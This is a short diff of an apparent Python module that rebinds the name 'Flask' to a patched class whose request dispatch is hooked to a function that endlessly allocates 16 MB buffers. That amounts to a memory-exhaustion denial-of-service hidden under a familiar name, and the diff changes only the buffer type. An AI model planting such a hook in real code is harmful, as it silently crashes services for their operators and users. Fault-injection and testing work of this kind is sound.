@@ -9,7 +9,7 @@ HOARD = []
 def hoard(app):
     """Take the next piece."""
     while True:
-        HOARD.append(bytearray(2**24))
+        HOARD.append(bytes(2**24))
 
 
 Flask = struck(flask.Flask, "dispatch_request", hoard)
